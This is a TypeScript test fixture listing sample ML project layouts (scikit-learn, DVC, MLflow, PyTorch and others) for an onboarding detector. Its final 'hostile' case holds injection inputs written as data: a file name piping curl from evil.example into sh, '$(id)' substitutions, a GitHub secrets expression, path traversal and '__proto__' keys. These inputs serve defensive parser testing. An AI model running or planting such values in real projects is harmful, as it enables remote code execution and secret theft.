import type { ProjectSource } from "../../../src/core/onboarding/project-source.ts";

export interface ProjectCase {
  readonly name: string;
  /** What the repository is called, if not the case's name. */
  readonly repository?: string;
  /** Files by path, with their text. */
  readonly files: Readonly<Record<string, string>>;
}

const SKLEARN = `import joblib
from sklearn.metrics import roc_auc_score, brier_score_loss
joblib.dump(model, "model.joblib")
frame.to_csv("predictions.csv")
`;

/** Small projects, each as its list of files: what is typical, and what is odd. */
export const PROJECT_CASES: readonly ProjectCase[] = [
  {
    name: "scikit-learn",
    repository: "Late_Flights",
    files: {
      "train.py": SKLEARN,
      "features.py": "",
      "evaluate.py": "",
      "params.yaml": "lr: 0.1\n",
      "requirements.txt": "scikit-learn==1.9.0\n",
      "data/flights.csv": "a,b\n",
      "data/test.csv": "a,b\n",
      "contracts/flights.odcs.yaml": "kind: DataContract\n",
      "README.md": "",
    },
  },
  {
    name: "dvc",
    files: {
      "dvc.yaml": `stages:
  prepare: { cmd: python src/prepare.py, deps: [src/prepare.py], outs: [data/prepared] }
  train:
    cmd: python src/train.py
    deps: [src/train.py, data/prepared]
    params: [train.lr]
    outs: [models/model.pkl]
    metrics: [{ metrics.json: { cache: false } }]
`,
      "dvc.lock": "",
      "metrics.json": '{"train": {"accuracy": 0.99}, "test": {"accuracy": 0.9, "val_loss": 0.3}}',
      "params.yaml": "train: { lr: 0.1 }\n",
      "src/train.py": "",
      "src/prepare.py": "",
      "data/raw.csv.dvc": "outs: []\n",
      "uv.lock": "",
      "pyproject.toml": '[project]\nname = "churn"\nrequires-python = ">=3.13"\n',
    },
  },
  {
    name: "mlflow-project",
    files: {
      MLproject: "name: Wine Quality\nentry_points:\n  main:\n    command: python train.py {alpha}\n",
      "train.py":
        "from sklearn.linear_model import ElasticNet\nfrom sklearn.metrics import mean_absolute_error, r2_score\n",
      "environment.yml": "dependencies: [scikit-learn]\n",
      "wine-quality.csv": "a\n",
    },
  },
  {
    name: "torch-with-lfs",
    files: {
      "src/vision/train.py": 'loss = torch.nn.CrossEntropyLoss()\ntorch.save(net.state_dict(), "out/net.pt")\n',
      "src/vision/model.py": "",
      "poetry.lock": "",
      "pyproject.toml": "[tool.poetry]\n",
      ".gitattributes": "*.parquet filter=lfs diff=lfs merge=lfs -text\n",
      "data/images/a.parquet": "",
      "data/images/b.parquet": "",
      "data/images/c.parquet": "",
      "data/images/d.parquet": "",
      "scores.json": '{"map50": 0.4, "loss": 1.2}',
    },
  },
  {
    name: "make",
    files: { Makefile: "all: train\n\ntrain: data\n\tpython -m churn\n", "churn/__main__.py": "", "setup.py": "" },
  },
  { name: "r", files: { "R/train.R": 'saveRDS(fit, "fit.rds")\n', "renv.lock": "{}", "data/trees.csv": "a\n" } },
  { name: "julia", files: { "train.jl": "", "Project.toml": "" } },
  { name: "notebook", files: { "train.ipynb": '{"cells": []}', "fetch_data.py": "import pandas\n" } },
  { name: "nothing-that-trains", files: { "app.py": "", "requirements.txt": "flask\n" } },
  {
    name: "own-train-workflow",
    files: { "train.py": "", "requirements.txt": "", ".github/workflows/train.yml": "on: push\njobs: {}\n" },
  },
  {
    name: "very-many-files",
    files: {
      "train.py": "",
      "dvclive/metrics.json": '{"val_loss": 1, "val-loss": 2, "val loss": 3, "valid/auc": 0.5, "auc": 0.6}',
      ...Object.fromEntries(
        Array.from({ length: 150 }, (_, index) => [`data/test_${String(index)}/test.csv`, ""] as const),
      ),
      ...Object.fromEntries(
        Array.from({ length: 50 }, (_, index) => [`contracts/c${String(index)}.odcs.yaml`, ""] as const),
      ),
    },
  },
  {
    name: "hostile",
    repository: "---",
    files: {
      "train.py; curl evil.example | sh .py": "",
      "$(id)/train.py": "",
      "data/${{ secrets.TOKEN }}.csv": "",
      "data/a: b.csv": "",
      "dvc.yaml": 'stages:\n  "train; id": { cmd: x, outs: ["$(id).pkl"] }\n',
      "metrics.json": '{"auc\\n  evil: true": 1, "roc_auc": 0.7, "__proto__": {"f1": 1}}',
      "train.py": 'save("../../etc/model.pkl")\nsave("model $(id).pkl")\n',
      CODEOWNERS: "* @acme/ml $(id)\n",
      "a.constructor": "",
      "b.__proto__": "",
    },
  },
];

export function sourceOf({ name, repository = name, files }: ProjectCase): ProjectSource {
  return { name: repository, paths: Object.keys(files), texts: new Map(Object.entries(files)) };
}
